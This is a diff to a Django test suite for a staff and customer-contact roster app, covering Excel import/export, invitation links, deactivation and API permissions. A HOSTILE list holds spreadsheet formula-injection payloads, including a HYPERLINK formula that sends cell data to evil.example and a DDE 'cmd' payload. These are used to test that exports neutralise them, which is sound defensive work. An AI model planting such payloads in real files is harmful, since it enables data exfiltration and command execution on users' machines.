@@ -8,7 +8,6 @@ from datetime import UTC, datetime, timedelta
 
 import pytest
 from django.core import mail
-from django.core.files.uploadedfile import SimpleUploadedFile
 from django.db import connection
 from django.test import Client
 from django.test.utils import CaptureQueriesContext
@@ -22,7 +21,7 @@ from opsbook.people import services
 from opsbook.people.excel.exporter import export_people
 from opsbook.people.invitations import invitation_link
 
-from .helpers import CONTACTS, CUSTOMERS, STAFF, TEAMS, counts, messages, run, sheets, state, xlsx
+from .helpers import CONTACTS, STAFF, counts, messages, run, sheets, state, xlsx
 
 STAFF_HEAD = STAFF[0]
 CONTACT_HEAD = CONTACTS[0]
@@ -326,7 +325,7 @@ def _staff_only(*rows) -> bytes:
 
 
 def test_a_managers_roster_cannot_make_or_change_an_administrator(personas, world):
-    mia, erin = personas.mia, personas.erin
+    mia, _erin = personas.mia, personas.erin
     before = state()
     for row in (
         ["受害者", "victim", SECRET, "", "", "管理员", "", "", ""],
@@ -432,7 +431,7 @@ def test_a_login_that_looks_like_someone_elses_is_refused(personas, login):
 # --- The roster export --------------------------------------------------------------------------
 
 HOSTILE = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1,1)",
@@ -446,7 +445,10 @@ HOSTILE = [
 def _hostile_roster(personas) -> None:
     personas.erin  # noqa: B018
     item_owner = personas.mia
-    teams = [services.do_save_team(None, None, name=name, description="\t=cmd|x\r\n@y") for name in HOSTILE[:4]]
+    teams = [
+        services.do_save_team(None, None, name=name, description="\t=cmd|x\r\n@y")
+        for name in HOSTILE[:4]
+    ]
     services.do_save_team(None, None, name="-sub", parent=teams[0], description="=z")
     for n, name in enumerate(HOSTILE):
         services.do_save_person(
@@ -459,9 +461,17 @@ def _hostile_roster(personas) -> None:
             team=teams[n % len(teams)],
             role=Role.AGENT,
         )
-    customer = services.do_save_customer(None, None, code="evil", name="=org()", notes="+notes\n=more")
+    customer = services.do_save_customer(
+        None, None, code="evil", name="=org()", notes="+notes\n=more"
+    )
     services.do_save_contact(
-        None, None, invite=False, username="c1", display_name="@contact", phone="-1", customer=customer
+        None,
+        None,
+        invite=False,
+        username="c1",
+        display_name="@contact",
+        phone="-1",
+        customer=customer,
     )
     assert item_owner
 
@@ -488,7 +498,9 @@ def test_the_export_neutralises_every_cell_that_a_spreadsheet_would_run(personas
     assert seen > 40
 
 
-def test_hostile_names_survive_export_then_import_unchanged(personas, django_capture_on_commit_callbacks):
+def test_hostile_names_survive_export_then_import_unchanged(
+    personas, django_capture_on_commit_callbacks
+):
     _hostile_roster(personas)
     before = state()
     audit = counts()["audit"]
@@ -510,7 +522,17 @@ def test_hostile_names_survive_export_then_import_unchanged(personas, django_cap
 
 def _big_roster(n: int, *, email: bool = True) -> bytes:
     rows = [
-        [f"员工{i}", f"user{i}", f"user{i}@example.com" if email else "", "", "客服部" if i % 2 else "运营中心", "客服", "", i % 200, "是"]
+        [
+            f"员工{i}",
+            f"user{i}",
+            f"user{i}@example.com" if email else "",
+            "",
+            "客服部" if i % 2 else "运营中心",
+            "客服",
+            "",
+            i % 200,
+            "是",
+        ]
         for i in range(n)
     ]
     contacts = [[f"联系人{i}", f"contact{i}", "", "", "xinghe", "是"] for i in range(n // 4)]
@@ -531,7 +553,9 @@ def _queries(data: bytes, **kwargs) -> tuple[int, object]:
     return len(captured), report
 
 
-def test_the_imports_queries_grow_linearly_not_quadratically(db, django_capture_on_commit_callbacks):
+def test_the_imports_queries_grow_linearly_not_quadratically(
+    db, django_capture_on_commit_callbacks
+):
     with django_capture_on_commit_callbacks(execute=False):
         check_200, _r = _queries(_big_roster(200), dry_run=True)
         check_400, _r = _queries(_big_roster(400), dry_run=True)
@@ -565,15 +589,21 @@ def test_importing_the_same_roster_twice_writes_and_sends_nothing_the_second_tim
     assert first.ok and first.invited == 30
     assert len(mail.outbox) == 30
     before, audit = state(), counts()["audit"]
-    with django_capture_on_commit_callbacks(execute=True) as callbacks:
-        with CaptureQueriesContext(connection) as captured:
-            second = run(data, actor=personas.erin)
+    with (
+        django_capture_on_commit_callbacks(execute=True) as callbacks,
+        CaptureQueriesContext(connection) as captured,
+    ):
+        second = run(data, actor=personas.erin)
     assert second.ok and second.invited == 0
     assert {r["action"] for r in second.rows} == {"unchanged"}
     assert callbacks == []
     assert len(mail.outbox) == 30
     assert (state(), counts()["audit"]) == (before, audit)
-    writes = [q["sql"] for q in captured.captured_queries if q["sql"].startswith(("INSERT", "UPDATE", "DELETE"))]
+    writes = [
+        q["sql"]
+        for q in captured.captured_queries
+        if q["sql"].startswith(("INSERT", "UPDATE", "DELETE"))
+    ]
     assert writes == []
 
 
@@ -585,7 +615,13 @@ STRONG = "Fresh-horse-42-staple"
 
 def _invited(username: str = "newbie", **fields) -> User:
     person = services.do_save_person(
-        None, None, invite=False, username=username, display_name="新人", email=f"{username}@example.com", **fields
+        None,
+        None,
+        invite=False,
+        username=username,
+        display_name="新人",
+        email=f"{username}@example.com",
+        **fields,
     )
     return person
 
@@ -604,11 +640,15 @@ def _set(client, link: str, password: str = STRONG):
     return client.post(url, {"new_password1": password, "new_password2": password})
 
 
-def test_an_invitation_works_until_the_last_moment_of_the_injected_clock(client, time_machine, settings, db):
+def test_an_invitation_works_until_the_last_moment_of_the_injected_clock(
+    client, time_machine, settings, db
+):
     time_machine.move_to(START, tick=False)
     person = _invited()
     link = invitation_link(person)
-    time_machine.move_to(START + timedelta(seconds=settings.PASSWORD_RESET_TIMEOUT - 60), tick=False)
+    time_machine.move_to(
+        START + timedelta(seconds=settings.PASSWORD_RESET_TIMEOUT - 60), tick=False
+    )
     assert "set-password" in _open(client, link)[1].text
     time_machine.move_to(START + timedelta(seconds=settings.PASSWORD_RESET_TIMEOUT + 1), tick=False)
     client.logout()
@@ -689,13 +729,18 @@ def test_wrong_links_look_the_same_whoever_they_name(client, personas):
     assert "newbie" not in bodies[0]
 
 
-def test_the_link_is_built_on_the_configured_address(settings, db, django_capture_on_commit_callbacks):
+def test_the_link_is_built_on_the_configured_address(
+    settings, db, django_capture_on_commit_callbacks
+):
     settings.OPSBOOK_BASE_URL = "https://ops.example.org"
     with django_capture_on_commit_callbacks(execute=True):
-        services.do_save_person(None, None, username="far", display_name="远", email="far@example.com")
+        services.do_save_person(
+            None, None, username="far", display_name="远", email="far@example.com"
+        )
     (message,) = mail.outbox
-    assert re.search(r"https://ops\.example\.org/people/welcome/[^/\s]+/[^/\s]+/", message.body)
-    assert "testserver" not in message.body
+    body = str(message.body)
+    assert re.search(r"https://ops\.example\.org/people/welcome/[^/\s]+/[^/\s]+/", body)
+    assert "testserver" not in body
 
 
 @pytest.mark.parametrize("password", ["123", "password", "newbie2026", "12345678901234"])
@@ -749,7 +794,12 @@ def _switch(door: str, personas, person: User, active: bool) -> None:
         client = Client()
         client.force_login(erin)
         name = "people:contact_active" if person.role == Role.CUSTOMER else "people:staff_active"
-        assert client.post(reverse(name, args=[person.pk]), {"active": "1" if active else "0"}).status_code == 302
+        assert (
+            client.post(
+                reverse(name, args=[person.pk]), {"active": "1" if active else "0"}
+            ).status_code
+            == 302
+        )
     elif door == "api":
         api, headers = _api(erin)
         kind = "contacts" if person.role == Role.CUSTOMER else "staff"
@@ -757,22 +807,31 @@ def _switch(door: str, personas, person: User, active: bool) -> None:
         assert _send(api, headers, "post", f"/{kind}/{person.pk}/{verb}").status_code == 200
     elif door == "import":
         if person.role == Role.CUSTOMER:
-            rows = {"联系人": [CONTACT_HEAD, [person.label, person.username, "", "", person.customer.code, flag]]}
+            rows = {
+                "联系人": [
+                    CONTACT_HEAD,
+                    [person.label, person.username, "", "", str(person.customer), flag],
+                ]
+            }
         else:
-            rows = {"员工": [STAFF_HEAD, [person.label, person.username, "", "", "", "", "", "", flag]]}
+            rows = {
+                "员工": [STAFF_HEAD, [person.label, person.username, "", "", "", "", "", "", flag]]
+            }
         report = run(xlsx(rows), actor=erin)
         assert report.ok, messages(report)
     elif door == "admin":
         client = Client()
         root = User.objects.filter(username="root").first()
-        client.force_login(root or User.objects.create_superuser("root", "root@example.com", PASSWORD))
+        client.force_login(
+            root or User.objects.create_superuser("root", "root@example.com", PASSWORD)
+        )
         _admin_form_save(client, User.objects.get(pk=person.pk), active)
     elif door == "save":
         fresh = User.objects.get(pk=person.pk)
         fresh.is_active = active
         fresh.save()
     elif door == "organisation":
-        customer = Customer.objects.get(pk=person.customer_id)
+        customer = Customer.objects.get(contacts=person)
         if active:
             services.do_save_customer(erin, customer, is_active=True)
             services.do_set_active(erin, User.objects.get(pk=person.pk), True)
@@ -815,12 +874,18 @@ def test_deactivation_ends_tokens_and_sessions_for_good_whatever_the_door(person
     assert Client().get("/api/people/staff", headers=bearer).status_code == 401
     assert ApiToken.objects.get(user=person).revoked_at is not None
     fresh = Client()
-    signed_in = fresh.post(reverse("accounts:login"), {"username": person.username, "password": PASSWORD})
+    signed_in = fresh.post(
+        reverse("accounts:login"), {"username": person.username, "password": PASSWORD}
+    )
     assert signed_in.status_code == 302
     assert fresh.get(PREFERENCES).status_code == 200
     _new, new_raw = do_create_api_token(User.objects.get(pk=person.pk))
     expected = 200 if person.role in (Role.ADMIN, Role.MANAGER) else 403
-    status = Client().get("/api/people/staff", headers={"Authorization": f"Bearer {new_raw}"}).status_code
+    status = (
+        Client()
+        .get("/api/people/staff", headers={"Authorization": f"Bearer {new_raw}"})
+        .status_code
+    )
     assert status == expected
 
 
@@ -846,12 +911,28 @@ def test_the_api_ignores_fields_it_does_not_offer(personas, world):
     assert (person.is_superuser, person.is_staff, person.is_active) == (False, False, True)
     assert (person.customer_id, person.invited_at, person.phone) == (None, None, "123")
     assert person.check_password(PASSWORD)
-    created = _send(api, headers, "post", "/staff", {"username": "sneaky", "name": "s", "is_superuser": True, "role": "customer"})
+    created = _send(
+        api,
+        headers,
+        "post",
+        "/staff",
+        {"username": "sneaky", "name": "s", "is_superuser": True, "role": "customer"},
+    )
     assert created.status_code == 422
-    created = _send(api, headers, "post", "/staff", {"username": "sneaky", "name": "s", "is_superuser": True, "password": "x"})
+    created = _send(
+        api,
+        headers,
+        "post",
+        "/staff",
+        {"username": "sneaky", "name": "s", "is_superuser": True, "password": "x"},
+    )
     assert created.status_code == 201
     sneaky = User.objects.get(username="sneaky")
-    assert (sneaky.is_superuser, sneaky.role, sneaky.has_usable_password()) == (False, Role.AGENT, False)
+    assert (sneaky.is_superuser, sneaky.role, sneaky.has_usable_password()) == (
+        False,
+        Role.AGENT,
+        False,
+    )
 
 
 def test_a_manager_cannot_reactivate_a_deactivated_administrator(personas):
@@ -879,5 +960,14 @@ def test_a_roster_may_move_an_e_mail_address_from_one_person_to_another(personas
         actor=personas.erin,
     )
     assert report.ok, messages(report)
-    emails = dict(User.objects.filter(username__in=["fresh", "old", "one", "two"]).values_list("username", "email"))
-    assert emails == {"fresh": "shared@example.com", "old": "old@example.com", "one": "two@example.com", "two": "one@example.com"}
+    emails = dict(
+        User.objects.filter(username__in=["fresh", "old", "one", "two"]).values_list(
+            "username", "email"
+        )
+    )
+    assert emails == {
+        "fresh": "shared@example.com",
+        "old": "old@example.com",
+        "one": "two@example.com",
+        "two": "one@example.com",
+    }
